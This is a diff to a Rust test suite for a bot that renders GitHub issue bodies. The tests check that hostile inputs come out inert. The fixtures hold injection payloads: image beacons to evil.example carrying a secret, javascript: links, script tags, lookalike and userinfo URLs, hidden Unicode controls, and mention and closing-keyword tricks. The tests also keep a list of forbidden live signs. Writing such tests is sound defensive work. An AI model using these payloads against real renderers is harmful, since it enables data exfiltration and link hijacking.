@@ -10,15 +10,8 @@ use serde_json::Value;
 use super::text_of;
 use crate::sample;
 
-const HEADINGS: [&str; 7] = [
-    "What changed and why",
-    "Error details",
-    "Breadcrumbs",
-    "Evidence",
-    "Safety checks",
-    "Attempt",
-    "How to opt out",
-];
+const HEADINGS: [&str; 7] =
+    ["What changed and why", "Error details", "Breadcrumbs", "Evidence", "Safety checks", "Attempt", "How to opt out"];
 const RUN_URL: &str = "https://github.com/acme/bots/actions/runs/42";
 
 /// What a forge would make of a body.
@@ -35,8 +28,11 @@ struct Seen {
 }
 
 fn read(body: &str) -> Seen {
-    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
-        | Options::ENABLE_FOOTNOTES | Options::ENABLE_GFM;
+    let options = Options::ENABLE_TABLES
+        | Options::ENABLE_STRIKETHROUGH
+        | Options::ENABLE_TASKLISTS
+        | Options::ENABLE_FOOTNOTES
+        | Options::ENABLE_GFM;
     let mut seen = Seen::default();
     let (mut in_heading, mut in_code) = (false, false);
     for event in Parser::new_ext(body, options) {
@@ -134,24 +130,34 @@ fn infested<T: serde::Serialize + serde::de::DeserializeOwned>(plain: &T, text: 
     serde_json::from_value(value).expect("every change was tried")
 }
 
+/// The blocks of a body with harmless texts.
+static PLAIN: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
+
 /// Asserts that a body with hostile texts has the structure of one with harmless texts, and nothing alive in it.
 fn assert_inert(candidate: &Candidate, verdict: &Verdict, what: &str) -> Seen {
     let what: String = what.chars().take(120).collect();
     let text = text_of(candidate, verdict, &["a guardrail asks for a person's look"]);
     let seen = read(&text.body);
-    let plain = read(&text_of(&full(), &sample::flagged(), &["a guardrail asks for a person's look"]).body);
+    let plain = PLAIN.get_or_init(|| {
+        read(&text_of(&full(), &sample::flagged(), &["a guardrail asks for a person's look"]).body).blocks
+    });
     assert!(text.body.chars().count() <= 65_536, "{what:?}: {}", text.body.chars().count());
     assert_eq!(seen.headings, HEADINGS, "{what:?}");
-    assert_eq!(seen.blocks, plain.blocks, "{what:?}\n{}", text.body);
+    assert_eq!(&seen.blocks, plain, "{what:?}\n{}", text.body);
     assert_eq!(seen.images, 0, "{what:?}");
     assert!(seen.links.iter().all(|link| link == RUN_URL), "{what:?}: {:?}", seen.links);
     let live = seen.live.replace("Closes #7", "");
-    for sign in ["@", "#", "://", "www.", "<", ">", "](", "`", "GH-", "gh-", "evil", ":tada:", "\n/", "\0", "\u{202e}"] {
+    for sign in ["@", "#", "://", "www.", "<", ">", "](", "`", "GH-", "gh-", "evil", ":tada:", "\n/", "\0", "\u{202e}"]
+    {
         assert!(!live.contains(sign), "{what:?}: {sign:?} is alive in {live}");
     }
     assert!(text.title.chars().count() <= 120 && !text.title.contains(['\n', '@', '#']), "{what:?}: {}", text.title);
     assert_eq!(text.body.matches("<!-- homeostat:end -->").count(), 1, "{what:?}");
-    assert_eq!(marker::read(&text.body).map(|state| state.fingerprint), Some(candidate.fingerprint.clone()), "{what:?}");
+    assert_eq!(
+        marker::read(&text.body).map(|state| state.fingerprint),
+        Some(candidate.fingerprint.clone()),
+        "{what:?}"
+    );
     assert_eq!(marker::merge(&text.body, &text.body).trim_end(), text.body.trim_end(), "{what:?}");
     seen
 }
@@ -168,8 +174,18 @@ fn everywhere(text: &str) -> Seen {
 #[test]
 fn v_19_mentions_of_every_spelling_are_inert() {
     for text in [
-        "@octocat", "@org/team", "&#64;octocat", "&commat;octocat", "@<!-- -->octocat", "\u{ff20}octocat",
-        "@\u{200b}octocat", "\\@octocat", "`@octocat", "(@octocat)", "a`@octocat`b @octocat", "mail me@evil.example",
+        "@octocat",
+        "@org/team",
+        "&#64;octocat",
+        "&commat;octocat",
+        "@<!-- -->octocat",
+        "\u{ff20}octocat",
+        "@\u{200b}octocat",
+        "\\@octocat",
+        "`@octocat",
+        "(@octocat)",
+        "a`@octocat`b @octocat",
+        "mail me@evil.example",
     ] {
         let seen = everywhere(text);
         assert!(!seen.live.contains("octocat"), "{text:?}: {}", seen.live);
@@ -211,7 +227,8 @@ fn v_20_no_keyword_closes_anything() {
 #[test]
 fn v_21_no_reference_reaches_another_repository() {
     let sha = "0123456789abcdef0123456789abcdef01234567";
-    for text in ["o/r#1", "https://github.com/o/r/issues/1", sha, &format!("o/r@{sha}"), &format!("user@{sha}"), "GH-1"] {
+    for text in ["o/r#1", "https://github.com/o/r/issues/1", sha, &format!("o/r@{sha}"), &format!("user@{sha}"), "GH-1"]
+    {
         let seen = everywhere(text);
         assert!(!seen.live.contains("0123456789"), "{text:?}");
     }
@@ -227,8 +244,11 @@ fn v_22_no_command_stands_at_the_start_of_live_text() {
 #[test]
 fn v_23_no_picture_is_loaded() {
     for text in [
-        "![x](https://evil.example/?d=SECRET)", "<img src=https://evil.example/x>", "![a][b]\n\n[b]: https://evil.example",
-        "<picture><source srcset=//evil.example></picture>", "<video src=//evil.example>",
+        "![x](https://evil.example/?d=SECRET)",
+        "<img src=https://evil.example/x>",
+        "![a][b]\n\n[b]: https://evil.example",
+        "<picture><source srcset=//evil.example></picture>",
+        "<video src=//evil.example>",
     ] {
         everywhere(text);
     }
@@ -237,9 +257,18 @@ fn v_23_no_picture_is_loaded() {
 #[test]
 fn v_24_v_25_no_link_is_made() {
     for text in [
-        "[click](javascript:alert(1))", "[x](data:text/html,1)", "<vbscript:x>", "ssh://evil.example", "//evil.example",
-        "www.evil.example", "https://github.com.evil.example", "https://github.com@evil.example",
-        "https://g\u{456}thub.com", "https://evil.example:1@x", "[a]\n\n[a]: //evil.example", "<https://evil.example>",
+        "[click](javascript:alert(1))",
+        "[x](data:text/html,1)",
+        "<vbscript:x>",
+        "ssh://evil.example",
+        "//evil.example",
+        "www.evil.example",
+        "https://github.com.evil.example",
+        "https://github.com@evil.example",
+        "https://g\u{456}thub.com",
+        "https://evil.example:1@x",
+        "[a]\n\n[a]: //evil.example",
+        "<https://evil.example>",
     ] {
         everywhere(text);
     }
@@ -250,9 +279,29 @@ fn v_26_html_and_quotes_do_not_change_the_structure() {
     let details = "<details>".repeat(300);
     let quotes = "> ".repeat(5_000);
     for text in [
-        "</details></td></table>", "<script>alert(1)</script>", "<style>*{display:none}</style>", "<a href=x>", "<!--", "-->",
-        "<!-- homeostat:end -->", "<!--\nhomeostat:end -->", "<![CDATA[", "<?php", &details, &quotes, "\n# x\n\n## Evidence\n",
-        "---", "===", "- [ ] x", "1. x", "\tcode", "$$x$$", ":tada:", "[^1]\n\n[^1]: x", "> [!CAUTION]\n> x", "a\u{a0}\n\n# b",
+        "</details></td></table>",
+        "<script>alert(1)</script>",
+        "<style>*{display:none}</style>",
+        "<a href=x>",
+        "<!--",
+        "-->",
+        "<!-- homeostat:end -->",
+        "<!--\nhomeostat:end -->",
+        "<![CDATA[",
+        "<?php",
+        &details,
+        &quotes,
+        "\n# x\n\n## Evidence\n",
+        "---",
+        "===",
+        "- [ ] x",
+        "1. x",
+        "\tcode",
+        "$$x$$",
+        ":tada:",
+        "[^1]\n\n[^1]: x",
+        "> [!CAUTION]\n> x",
+        "a\u{a0}\n\n# b",
     ] {
         everywhere(text);
     }
@@ -260,7 +309,9 @@ fn v_26_html_and_quotes_do_not_change_the_structure() {
 
 #[test]
 fn v_27_no_text_leaves_its_fence() {
-    for text in ["```\n# x\n```", "~~~~\n# x", &"`".repeat(40), "``` unclosed", "```\r\n# x\r```\r# y", "`", "``", "a`b``c```d"] {
+    for text in
+        ["```\n# x\n```", "~~~~\n# x", &"`".repeat(40), "``` unclosed", "```\r\n# x\r```\r# y", "`", "``", "a`b``c```d"]
+    {
         everywhere(text);
     }
 }
@@ -316,12 +367,25 @@ fn v_30_a_secret_across_a_cut_leaves_no_piece() {
 #[test]
 fn v_31_v_32_v_35_what_cannot_be_seen_is_shown_or_gone() {
     for text in [
-        "a\u{202e}b", "\u{2066}x\u{2069}", "g\u{200b}it", "\u{feff}", "\u{e0041}\u{e0042}", "\u{3164}", "a\0b", "a\u{9b}31mb",
-        "a\u{2028}# b", "a\u{2029}b", "a\x0bb\x0cc", "a\rb", "\u{1b}[31mred",
+        "a\u{202e}b",
+        "\u{2066}x\u{2069}",
+        "g\u{200b}it",
+        "\u{feff}",
+        "\u{e0041}\u{e0042}",
+        "\u{3164}",
+        "a\0b",
+        "a\u{9b}31mb",
+        "a\u{2028}# b",
+        "a\u{2029}b",
+        "a\x0bb\x0cc",
+        "a\rb",
+        "\u{1b}[31mred",
     ] {
         let body = text_of(&infested(&full(), text), &infested(&sample::flagged(), text), &[]).body;
         everywhere(text);
-        let bad = |c: char| c.is_control() && c != '\n' && c != '\t' || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}');
+        let bad = |c: char| {
+            c.is_control() && c != '\n' && c != '\t' || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}')
+        };
         assert!(!body.contains(bad), "{text:?}");
     }
 }
@@ -342,8 +406,35 @@ fn v_37_a_title_is_one_short_line() {
 
 #[test]
 fn v_38_a_report_full_of_mentions_and_links_stays_inert() {
-    let text: String = (0..300).map(|n| format!("@user{n} [x](https://evil.example/{n}) ")).collect();
+    let text = (0..300).map(|n| format!("@user{n} [x](https://evil.example/{n})")).collect::<Vec<_>>().join(" ");
     everywhere(&format!("{text}{}", "z".repeat(65_536 - text.len())));
+}
+
+#[test]
+fn p_04_a_summary_keeps_hostile_texts_inert_too() {
+    let plain = super::fleet_report();
+    let facts = homeostat::render::SummaryFacts::default();
+    let make =
+        |report: &homeostat::render::RunReport| read(&homeostat::render::summary(report, &facts, &Redactor::new(&[])));
+    let blocks = make(&plain).blocks;
+    for text in [
+        "@octocat Fixes #1 ![x](//evil.example)",
+        "a|b\\|@x",
+        "```\n# x",
+        "</details><img src=x>",
+        "- x\n\n# y",
+        "[x](javascript:1)",
+        "a\u{202e}b\0",
+        "` @x `` ```",
+        "1. x",
+    ] {
+        let seen = make(&infested(&plain, text));
+        assert_eq!(seen.blocks, blocks, "{text:?}");
+        assert_eq!((seen.images, seen.links.len()), (0, 0), "{text:?}");
+        for sign in ["@", "//", "<", "](", "`", "\u{202e}", "\0"] {
+            assert!(!seen.live.contains(sign), "{text:?}: {sign} is alive in {}", seen.live);
+        }
+    }
 }
 
 #[test]
@@ -358,13 +449,44 @@ fn a_path_with_backticks_is_quoted_whole() {
 
 /// Pieces from which hostile texts are put together.
 const PIECES: [&str; 34] = [
-    "@octocat", "Fixes #1", "![x](//evil.example)", "[x](javascript:1)", "<img src=x>", "<details>", "</details>", "```", "`",
-    "~~~", "\n", "\n\n", "\r\n", "> ", "# ", "- ", "1. ", "|", "\\", "\u{202e}", "\u{200b}", "\0", "<!--", "-->", "--", "*", "_",
-    "https://evil.example", "word", " ", "\t", "&#64;x", "$", "[a]: //evil.example",
+    "@octocat",
+    "Fixes #1",
+    "![x](//evil.example)",
+    "[x](javascript:1)",
+    "<img src=x>",
+    "<details>",
+    "</details>",
+    "```",
+    "`",
+    "~~~",
+    "\n",
+    "\n\n",
+    "\r\n",
+    "> ",
+    "# ",
+    "- ",
+    "1. ",
+    "|",
+    "\\",
+    "\u{202e}",
+    "\u{200b}",
+    "\0",
+    "<!--",
+    "-->",
+    "--",
+    "*",
+    "_",
+    "https://evil.example",
+    "word",
+    " ",
+    "\t",
+    "&#64;x",
+    "$",
+    "[a]: //evil.example",
 ];
 
 proptest! {
-    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]
+    #![proptest_config(ProptestConfig { cases: 40, failure_persistence: None, ..ProptestConfig::default() })]
 
     #[test]
     fn p_04_no_mixture_of_hostile_pieces_comes_alive(picked in prop::collection::vec(0..PIECES.len(), 1..24)) {
